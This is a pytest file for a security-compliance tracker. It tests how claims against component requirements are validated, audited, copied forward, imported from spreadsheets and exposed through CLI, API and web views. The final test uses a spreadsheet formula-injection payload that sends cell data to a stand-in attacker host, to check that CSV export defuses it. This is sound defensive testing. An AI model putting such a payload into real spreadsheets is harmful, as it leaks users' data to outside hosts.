"""Claims through the services and every door: applicability, history, copy forward, spreadsheets."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest
from flask import Flask
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from sdl_tracker.audit.models import AuditEvent
from sdl_tracker.claims.models import Claim
from sdl_tracker.claims.services import ClaimInput, import_claims, list_claims, set_claim, vector_report
from sdl_tracker.claims.sheets import parse_sheet
from sdl_tracker.cli import cli
from sdl_tracker.errors import Forbidden, Invalid
from sdl_tracker.evidence.review import review_evidence
from sdl_tracker.evidence.services import EvidenceInput, Upload, create_evidence
from tests.factories import OPERATOR, ApiClient, csrf_token, login, make_product, make_release, member

LEVEL_1 = dict.fromkeys(("FR1", "FR2", "FR3", "FR4", "FR5", "FR6", "FR7"), 1)


def accepted_evidence(session: Session, product, officer) -> int:  # type: ignore[no-untyped-def]
    evidence = create_evidence(
        session,
        OPERATOR,
        product_id=product.id,
        kind="requirements-test",
        data=EvidenceInput(
            title="CR tests", requirements=["SVV-1"], files=[Upload("r.txt", "text/plain", io.BytesIO(b"ok"))]
        ),
    )
    review_evidence(session, officer, evidence.id, accept=True)
    return evidence.id


def test_claims_need_applicable_requirements_and_reasons(session: Session) -> None:
    product = make_product(session, component_type="EDR")
    release = make_release(session, product, "1.0")
    officer = member(session, product, "security_officer")
    for ref, data, fragment in (
        ("SAR 2.4", ClaimInput("implemented"), "does not apply to a EDR"),
        ("CR 2.4", ClaimInput("implemented"), "claim EDR 2.4 instead"),
        ("CR 2.3", ClaimInput("implemented"), "does not apply"),
        ("CR 9.9", ClaimInput("implemented"), "unknown requirement"),
        ("CR 1.1", ClaimInput("done"), "unknown status"),
        ("CR 1.1", ClaimInput("not_applicable"), "needs a justification"),
        ("CR 1.1", ClaimInput("compensated"), "countermeasure must be described"),
        ("CR 1.1", ClaimInput("implemented", evidence_ids=[999_999]), "no evidence 999999"),
    ):
        with pytest.raises(Invalid) as caught:
            set_claim(session, officer, release.id, ref, data)
        assert fragment in caught.value.one_line(), ref
    assert session.scalar(select(func.count()).select_from(Claim)) == 0
    developer = member(session, product, "developer")
    with pytest.raises(Forbidden):
        set_claim(session, developer, release.id, "CR 1.1", ClaimInput("implemented"))


def test_every_change_is_recorded_and_only_accepted_evidence_counts(session: Session) -> None:
    product = make_product(session, component_type="EDR", target_sl=LEVEL_1)
    release = make_release(session, product, "1.0")
    officer = member(session, product, "security_officer")
    items = [
        i
        for i in vector_report(session, officer, product.id, release.id).catalog.applicability.items
        if i.sl_c and min(i.sl_c) == 1 and i.fr == "FR5"
    ]
    for item in items:
        set_claim(session, officer, release.id, item.ref, ClaimInput("implemented"))
    assert vector_report(session, officer, product.id, release.id).achieved["FR5"] == 0  # no accepted evidence yet
    evidence_id = accepted_evidence(session, product, officer)
    for item in items:
        set_claim(
            session,
            officer,
            release.id,
            item.ref,
            ClaimInput("implemented", "supplier_test", evidence_ids=[evidence_id]),
        )
    report = vector_report(session, officer, product.id, release.id)
    assert report.achieved["FR5"] >= 1 and report.gap["FR5"] == []
    history = session.scalars(
        select(AuditEvent).where(AuditEvent.target_type == "claim").order_by(AuditEvent.seq)
    ).all()
    assert history[0].action == "claims:claim:create" and history[0].details["old"] is None
    update = next(e for e in history if e.action == "claims:claim:update")
    assert update.details["old"]["evidence"] == [] and update.details["new"]["evidence"] == [evidence_id]


def test_a_new_release_starts_with_the_previous_claims(session: Session) -> None:
    product = make_product(session)
    first = make_release(session, product, "1.9")
    officer = member(session, product, "security_officer")
    set_claim(session, officer, first.id, "CR 1.1", ClaimInput("implemented", notes="MFA via LDAP"))
    make_release(session, product, "1.10")
    copied = {c.requirement.ref: c for c in list_claims(session, officer, product.releases[-1].id)}
    assert copied["CR 1.1"].notes == "MFA via LDAP" and copied["CR 1.1"].updated_by == "copied from 1.9"
    event = session.scalars(select(AuditEvent).where(AuditEvent.action == "claims:claim:copy")).one()
    assert event.details == {"from": "1.9", "claims": 1}


def test_spreadsheet_import_is_all_or_nothing(session: Session) -> None:
    product = make_product(session)
    release = make_release(session, product, "1.0")
    officer = member(session, product, "security_officer")
    header = "requirement,status,verification,justification,countermeasure,notes,evidence\n"
    good = header + "CR 1.1,implemented,supplier_test,,,,\n"
    bad_rows = good + "CR 2.3,implemented,,,,,\nCR 1.2,not_applicable,,,,,\n"
    with pytest.raises(Invalid) as caught:
        import_claims(session, officer, release.id, parse_sheet(bad_rows.encode(), "claims.csv"))
    fields = [e.field for e in caught.value.errors]
    assert fields == ["row 3: requirement", "row 4: justification"]
    assert list_claims(session, officer, release.id) == []  # row 2 was fine, but nothing was applied
    result = import_claims(session, officer, release.id, parse_sheet(good.encode(), "claims.csv"))
    assert (result.rows, result.changed) == (1, 1)


@pytest.mark.parametrize(
    ("content", "name", "fragment"),
    [
        (b"requirement,status\nCR 1.1,implemented\n", "c.csv", "missing verification"),
        (
            b"requirement,status,verification,justification,countermeasure,notes,evidence,owner\n",
            "c.csv",
            "unexpected owner",
        ),
        (
            b"requirement,status,verification,justification,countermeasure,notes,evidence\nCR 1.1,implemented,,,,,,x\n",
            "c.csv",
            "more cells",
        ),
        ("requirement,status\n".encode("utf-16"), "c.csv", "not UTF-8"),
        (b'{"requirement": "CR 1.1"}', "c.json", "list of objects"),
        (b'[{"requirement": "CR 1.1", "status": "implemented", "colour": "red"}]', "c.json", "unknown fields: colour"),
        (b"[{", "c.json", "not JSON"),
        (
            b"requirement,status,verification,justification,countermeasure,notes,evidence\n"
            b"CR 1.1,implemented,,,,,a;b\n",
            "c.csv",
            "not an evidence id",
        ),
    ],
)
def test_bad_sheets(content: bytes, name: str, fragment: str) -> None:
    with pytest.raises(Invalid) as caught:
        parse_sheet(content, name)
    assert fragment in caught.value.one_line()


def test_claims_doors(app: Flask, api: ApiClient, session: Session, tmp_path: Path) -> None:
    product = make_product(session, "P", component_type="NDR")
    release = make_release(session, product, "2.0")
    officer = member(session, product, "security_officer", email="so@example.com")
    evidence_id = accepted_evidence(session, product, officer)
    session.commit()
    runner = app.test_cli_runner()
    assert (
        runner.invoke(
            cli,
            [
                "claims",
                "set",
                "P",
                "2.0",
                "NDR 1.6",
                "--status",
                "implemented",
                "--evidence",
                str(evidence_id),
                "--as",
                "so@example.com",
            ],
        ).exit_code
        == 0
    )
    refused = runner.invoke(cli, ["claims", "set", "P", "2.0", "EDR 3.10", "--status", "implemented"])
    assert refused.exit_code == 2 and "does not apply to a NDR" in refused.output
    exported = tmp_path / "claims.json"
    assert runner.invoke(cli, ["claims", "export", "P", str(exported)]).exit_code == 0
    rows = json.loads(exported.read_text())
    assert rows == [
        {
            "requirement": "NDR 1.6",
            "status": "implemented",
            "verification": None,
            "justification": "",
            "countermeasure": "",
            "notes": "",
            "evidence": [evidence_id],
        }
    ]
    rows.append({"requirement": "CR 1.1", "status": "implemented", "evidence": [evidence_id]})
    exported.write_text(json.dumps(rows))
    imported = runner.invoke(cli, ["claims", "import", "P", str(exported)])
    assert imported.output.strip() == "2 rows checked, 1 claims changed on 2.0"
    gap = json.loads(runner.invoke(cli, ["claims", "gap", "P", "--json"]).output)
    assert gap["release"] == "2.0" and gap["component_type"] == "NDR" and len(gap["frs"]) == 7
    assert "CR 1.1" not in gap["frs"][0]["missing"] and "CR 1.2" in gap["frs"][0]["missing"]
    token = api.as_user("so@example.com")
    put = api.call("PUT", f"/api/v1/releases/{release.id}/claims/CR%201.2", token, json={"status": "compensated"})
    assert put.status_code == 422 and put.get_json()["errors"][0]["field"] == "countermeasure"
    put = api.call(
        "PUT",
        f"/api/v1/releases/{release.id}/claims/CR%201.2",
        token,
        json={"status": "compensated", "countermeasure": "Jump host with MFA", "evidence": [evidence_id]},
    )
    assert put.status_code == 200 and put.get_json()["status"] == "compensated"
    vector = api.call("GET", f"/api/v1/products/{product.id}/vector?release=2.0", token).get_json()
    assert vector == gap | {"frs": vector["frs"]} and "CR 1.2" not in vector["frs"][0]["missing"]
    assert len(api.call("GET", f"/api/v1/releases/{release.id}/claims", token).get_json()["items"]) == 3
    later = make_release(session, product, "2.1")
    session.commit()
    compared = api.call("GET", f"/api/v1/releases/{release.id}/compare/{later.id}", token).get_json()
    assert compared["changed"] == [] and compared["from"] == "2.0"
    client = app.test_client()
    login(client, "so@example.com")
    page = client.get(f"/releases/{release.id}/claims").get_data(as_text=True)
    assert "<svg" in page and "NDR 1.6" in page and "Gap to the target" in page
    assert "CR 1.1" in client.get(f"/releases/{release.id}/claims?fr=FR1&status=implemented").get_data(as_text=True)
    path = f"/releases/{release.id}/claims/CR%201.3"
    posted = client.post(
        path, data={"status": "not_applicable", "verification": "", "csrf_token": csrf_token(client, path)}
    )
    assert "needs a justification" in posted.get_data(as_text=True)
    saved = client.post(
        path,
        data={
            "status": "not_applicable",
            "justification": "No user accounts on the device",
            "verification": "design_review",
            "csrf_token": csrf_token(client, path),
        },
        follow_redirects=True,
    )
    assert "CR 1.3: not applicable (justify)." in saved.get_data(as_text=True)
    assert client.get(f"/releases/{release.id}/claims/EDR%203.10").status_code == 404
    assert "claims changed" in client.get(f"/releases/{later.id}/claims/compare?other={release.id}").get_data(
        as_text=True
    )


def test_claims_rest_only_on_evidence_for_their_release_that_is_still_valid(session: Session) -> None:
    from datetime import date, timedelta

    from sdl_tracker.evidence.services import revise_evidence

    product = make_product(session, target_sl=LEVEL_1)
    old, new = make_release(session, product, "1.0"), make_release(session, product, "2.0")
    officer = member(session, product, "security_officer")
    only_old = create_evidence(
        session,
        OPERATOR,
        product_id=product.id,
        kind="other",
        data=EvidenceInput(
            title="1.0 test",
            requirements=["SVV-1"],
            release_versions=["1.0"],
            files=[Upload("r.txt", "text/plain", io.BytesIO(b"old"))],
        ),
    )
    review_evidence(session, officer, only_old.id, accept=True)
    with pytest.raises(Invalid) as caught:
        set_claim(session, officer, new.id, "CR 5.1", ClaimInput("implemented", evidence_ids=[only_old.id]))
    assert "does not cover release 2.0" in caught.value.one_line()
    set_claim(session, officer, old.id, "CR 5.1", ClaimInput("implemented", evidence_ids=[only_old.id]))
    assert vector_report(session, officer, product.id, old.id).achieved["FR5"] >= 1
    revise_evidence(
        session,
        OPERATOR,
        only_old.id,
        data=EvidenceInput(
            review_due=date.today() - timedelta(days=1), effective_date=date.today() - timedelta(days=10)
        ),
    )
    review_evidence(session, officer, only_old.id, accept=True)
    assert vector_report(session, officer, product.id, old.id).achieved["FR5"] == 0  # past its review date


def test_csv_export_defuses_formulas_and_round_trips(session: Session) -> None:
    from sdl_tracker.claims.sheets import rows_to_csv

    product = make_product(session)
    release = make_release(session, product, "1.0")
    officer = member(session, product, "security_officer")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    set_claim(session, officer, release.id, "CR 1.1", ClaimInput("implemented", notes=formula))
    text = rows_to_csv(list_claims(session, officer, release.id))
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text and '"=HYPERLINK' not in text
    rows = parse_sheet(text.encode(), "claims.csv")
    assert rows[0][2].notes == formula
